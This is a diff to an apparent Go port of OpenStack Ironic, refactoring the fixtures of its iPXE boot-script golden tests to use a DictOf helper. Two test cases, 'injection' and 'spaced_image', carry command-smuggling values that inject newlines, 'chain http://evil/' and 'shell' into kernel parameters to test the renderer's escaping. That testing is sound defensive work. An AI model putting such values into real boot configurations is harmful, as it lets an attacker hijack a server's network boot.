@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/goironic/ironic/internal/pyjson"
 	"github.com/goironic/ironic/states"
 )
 
@@ -19,18 +20,12 @@ const nodeUUID = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123"
 func bfvNode() ScriptNode {
 	return ScriptNode{
 		UUID: nodeUUID, ProvisionState: "active", DeployInterface: "direct",
-		DriverInternalInfo: map[string]any{"boot_from_volume": "t-boot"},
+		DriverInternalInfo: pyjson.DictOf("boot_from_volume", "t-boot"),
 		VolumeTargets: []VolumeTarget{
-			{UUID: "t-data2", VolumeType: "iscsi", BootIndex: ptr(2), Properties: map[string]any{
-				"target_portals": []any{"10.0.2.2:5791", "10.0.3.2:3260"}, "target_iqn": "iqn.2010-10.org.openstack:data2", "target_lun": 2,
-				"auth_username": "u2", "auth_password": "p2"}},
-			{UUID: "t-boot", VolumeType: "iscsi", BootIndex: ptr(0), Properties: map[string]any{
-				"target_portal": "10.0.2.2:5790", "target_iqn": "iqn.2010-10.org.openstack:boot", "target_lun": 0,
-				"auth_username": "chapuser", "auth_password": "chapsecret"}},
-			{UUID: "t-data1", VolumeType: "iscsi", BootIndex: ptr(1), Properties: map[string]any{
-				"target_portal": "10.0.2.2", "target_iqns": []any{"iqn.2010-10.org.openstack:data1"}, "target_luns": []any{1},
-				"auth_username": "u1", "auth_password": "p1"}},
-			{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(3), Properties: map[string]any{}},
+			{UUID: "t-data2", VolumeType: "iscsi", BootIndex: ptr(2), Properties: pyjson.DictOf("target_portals", []any{"10.0.2.2:5791", "10.0.3.2:3260"}, "target_iqn", "iqn.2010-10.org.openstack:data2", "target_lun", 2, "auth_username", "u2", "auth_password", "p2")},
+			{UUID: "t-boot", VolumeType: "iscsi", BootIndex: ptr(0), Properties: pyjson.DictOf("target_portal", "10.0.2.2:5790", "target_iqn", "iqn.2010-10.org.openstack:boot", "target_lun", 0, "auth_username", "chapuser", "auth_password", "chapsecret")},
+			{UUID: "t-data1", VolumeType: "iscsi", BootIndex: ptr(1), Properties: pyjson.DictOf("target_portal", "10.0.2.2", "target_iqns", []any{"iqn.2010-10.org.openstack:data1"}, "target_luns", []any{1}, "auth_username", "u1", "auth_password", "p1")},
+			{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(3), Properties: pyjson.DictOf()},
 		},
 		VolumeConnectors: []VolumeConnector{{Type: "ip", ConnectorID: "10.0.2.15"}, {Type: "iqn", ConnectorID: "iqn.2004-10.com.example:node1"}},
 	}
@@ -40,19 +35,18 @@ func bfvNode() ScriptNode {
 // deployment with the ipxe boot interface leaves it: no boot_from_volume.
 func fcNode() ScriptNode {
 	n := bfvNode()
-	n.DriverInternalInfo = map[string]any{"is_whole_disk_image": true}
-	n.VolumeTargets = []VolumeTarget{{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(0), Properties: map[string]any{
-		"target_wwn": []any{"500a09808e2b2a1f"}, "target_lun": 0}}}
+	n.DriverInternalInfo = pyjson.DictOf("is_whole_disk_image", true)
+	n.VolumeTargets = []VolumeTarget{{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(0), Properties: pyjson.DictOf("target_wwn", []any{"500a09808e2b2a1f"}, "target_lun", 0)}}
 	n.VolumeConnectors = []VolumeConnector{{Type: "wwpn", ConnectorID: "21000024ff37a4b2"}, {Type: "wwnn", ConnectorID: "20000024ff37a4b2"}}
 	return n
 }
 
 func TestIPXEScriptGoldens(t *testing.T) {
 	cfg := ScriptConfig{HTTPURL: "http://10.0.2.2:5781/", KernelAppendParams: "nofb nomodeset vga=normal", APIURL: "http://10.0.2.2:5780"}
-	deployDI := map[string]any{"deploy_kernel": "glance-kernel-uuid", "deploy_ramdisk": "glance-ramdisk-uuid",
-		"rescue_kernel": "http://images.example/rescue.kernel", "rescue_ramdisk": "http://images.example/rescue.initramfs"}
+	deployDI := pyjson.DictOf("deploy_kernel", "glance-kernel-uuid", "deploy_ramdisk", "glance-ramdisk-uuid",
+		"rescue_kernel", "http://images.example/rescue.kernel", "rescue_ramdisk", "http://images.example/rescue.initramfs")
 	fallback := func(c *ScriptConfig) { c.NetbootFallback = true }
-	localNode := ScriptNode{UUID: nodeUUID, ProvisionState: "active", DriverInternalInfo: map[string]any{"is_whole_disk_image": true}}
+	localNode := ScriptNode{UUID: nodeUUID, ProvisionState: "active", DriverInternalInfo: pyjson.DictOf("is_whole_disk_image", true)}
 	cases := map[string]struct {
 		cfg  func(*ScriptConfig)
 		node ScriptNode
@@ -66,16 +60,16 @@ func TestIPXEScriptGoldens(t *testing.T) {
 		// iSCSI targets without boot_from_volume (added after the
 		// deployment, or a boot interface without iscsi_volume_boot):
 		// is_iscsi_boot is false, the node boots locally.
-		"active_bfv_unrecorded": {cfg: fallback, node: func() ScriptNode { n := bfvNode(); n.DriverInternalInfo = map[string]any{}; return n }()},
+		"active_bfv_unrecorded": {cfg: fallback, node: func() ScriptNode { n := bfvNode(); n.DriverInternalInfo = pyjson.DictOf(); return n }()},
 		"active_local":          {node: localNode},
 		"active_local_fallback": {cfg: fallback, node: localNode},
 		"active_netboot": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active",
-			InstanceInfo:       map[string]any{"image_source": "http://images.example/part.img", "kernel": "http://images.example/vmlinuz", "ramdisk": "initrd-glance-id", "capabilities": map[string]any{"boot_option": "netboot"}},
-			DriverInternalInfo: map[string]any{"root_uuid_or_disk_id": "4b4f5ad2-7e5e-4c2a-a3c5-6a1d8bb0e5c5"}}},
+			InstanceInfo:       pyjson.DictOf("image_source", "http://images.example/part.img", "kernel", "http://images.example/vmlinuz", "ramdisk", "initrd-glance-id", "capabilities", pyjson.DictOf("boot_option", "netboot")),
+			DriverInternalInfo: pyjson.DictOf("root_uuid_or_disk_id", "4b4f5ad2-7e5e-4c2a-a3c5-6a1d8bb0e5c5")}},
 		"active_ramdisk": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "ramdisk",
-			InstanceInfo: map[string]any{"kernel": "http://images.example/vmlinuz", "ramdisk": "http://images.example/initrd", "ramdisk_kernel_arguments": "console=ttyS0"}}},
+			InstanceInfo: pyjson.DictOf("kernel", "http://images.example/vmlinuz", "ramdisk", "http://images.example/initrd", "ramdisk_kernel_arguments", "console=ttyS0")}},
 		"active_ramdisk_iso": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "ramdisk",
-			InstanceInfo: map[string]any{"boot_iso": "http://images.example/live.iso"}}},
+			InstanceInfo: pyjson.DictOf("boot_iso", "http://images.example/live.iso")}},
 		"available":          {node: ScriptNode{UUID: nodeUUID, ProvisionState: "available"}},
 		"deploying_nokernel": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying"}},
 		"deploying_conf_defaults": {
@@ -86,33 +80,32 @@ func TestIPXEScriptGoldens(t *testing.T) {
 		"deploying_timeout_debug": {
 			cfg: func(c *ScriptConfig) { c.IPXETimeout, c.Debug = 60, true },
 			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: deployDI,
-				InstanceInfo: map[string]any{"kernel_append_params": "%default% console=ttyS0,115200n8"}}},
+				InstanceInfo: pyjson.DictOf("kernel_append_params", "%default% console=ttyS0,115200n8")}},
 		"injection": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
-			DriverInfo: map[string]any{"deploy_kernel": "http://x/k\nshell", "deploy_ramdisk": "http://x/r", "kernel_append_params": "a\r\nchain http://evil/ && shell ; shell"}}},
+			DriverInfo: pyjson.DictOf("deploy_kernel", "http://x/k\nshell", "deploy_ramdisk", "http://x/r", "kernel_append_params", "a\r\nchain http://evil/ && shell ; shell")}},
 		// [pxe]ipxe_use_swift with Glance deploy images: no Glance client
 		// to make the temporary URLs, so the error script says so; URLs
 		// are used as they are.
 		"deploying_swift_glance": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
-			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{
-				"deploy_kernel": "http://images.example/ipa.kernel", "deploy_ramdisk": "glance://0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11"}}},
+			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: pyjson.DictOf("deploy_kernel", "http://images.example/ipa.kernel", "deploy_ramdisk", "glance://0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11")}},
 		"rescuing_swift_urls": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
 			node: ScriptNode{UUID: nodeUUID, ProvisionState: "rescuing", DriverInfo: deployDI}},
 		// The anaconda deploy interface while the installer runs.
 		"anaconda_wait_call-back": {cfg: func(c *ScriptConfig) { c.IPXETimeout = 30 }, node: ScriptNode{UUID: nodeUUID, ProvisionState: "wait call-back", DeployInterface: "anaconda", DriverInfo: deployDI,
-			InstanceInfo: map[string]any{"image_source": "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel": "kernel-glance-id", "ramdisk": "http://images.example/initrd.img"}}},
+			InstanceInfo: pyjson.DictOf("image_source", "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel", "kernel-glance-id", "ramdisk", "http://images.example/initrd.img")}},
 		"anaconda_deploying_repo": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DeployInterface: "anaconda", DriverInfo: deployDI,
-			InstanceInfo:       map[string]any{"image_source": "http://mirror.example/9-stream/BaseOS/x86_64/os/", "kernel": "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/vmlinuz", "ramdisk": "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/initrd.img"},
-			DriverInternalInfo: map[string]any{"is_source_a_path": true}}},
+			InstanceInfo:       pyjson.DictOf("image_source", "http://mirror.example/9-stream/BaseOS/x86_64/os/", "kernel", "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/vmlinuz", "ramdisk", "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/initrd.img"),
+			DriverInternalInfo: pyjson.DictOf("is_source_a_path", true)}},
 		"anaconda_nokernel": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "wait call-back", DeployInterface: "anaconda", DriverInfo: deployDI}},
 		// Installed: local boot (Ironic removed the config), not netboot
 		// of the installer.
 		"anaconda_active": {cfg: fallback, node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "anaconda",
-			InstanceInfo: map[string]any{"image_source": "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel": "kernel-glance-id", "ramdisk": "http://images.example/initrd.img"}}},
+			InstanceInfo: pyjson.DictOf("image_source", "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel", "kernel-glance-id", "ramdisk", "http://images.example/initrd.img")}},
 		// Cleaning an anaconda node runs IPA as any other.
 		"anaconda_cleaning": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "cleaning", DeployInterface: "anaconda", DriverInfo: deployDI}},
 		"unknown_node":      {},
 		"spaced_image": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
-			DriverInfo: map[string]any{"deploy_kernel": "http://x/k || shell", "deploy_ramdisk": "http://x/r"}}},
+			DriverInfo: pyjson.DictOf("deploy_kernel", "http://x/k || shell", "deploy_ramdisk", "http://x/r")}},
 	}
 	for _, st := range []states.Provision{states.Deploying, states.DeployWait, states.Cleaning, states.CleanWait, states.Inspecting, states.InspectWait, states.Rescuing, states.RescueWait} {
 		cases[strings.ReplaceAll(string(st), " ", "_")] = struct {
@@ -174,7 +167,7 @@ func BenchmarkRender(b *testing.B) {
 	if err != nil {
 		b.Fatal(err)
 	}
-	n := ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{"deploy_kernel": "k", "deploy_ramdisk": "r"}}
+	n := ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: pyjson.DictOf("deploy_kernel", "k", "deploy_ramdisk", "r")}
 	b.ReportAllocs()
 	for b.Loop() {
 		s.Render(n)
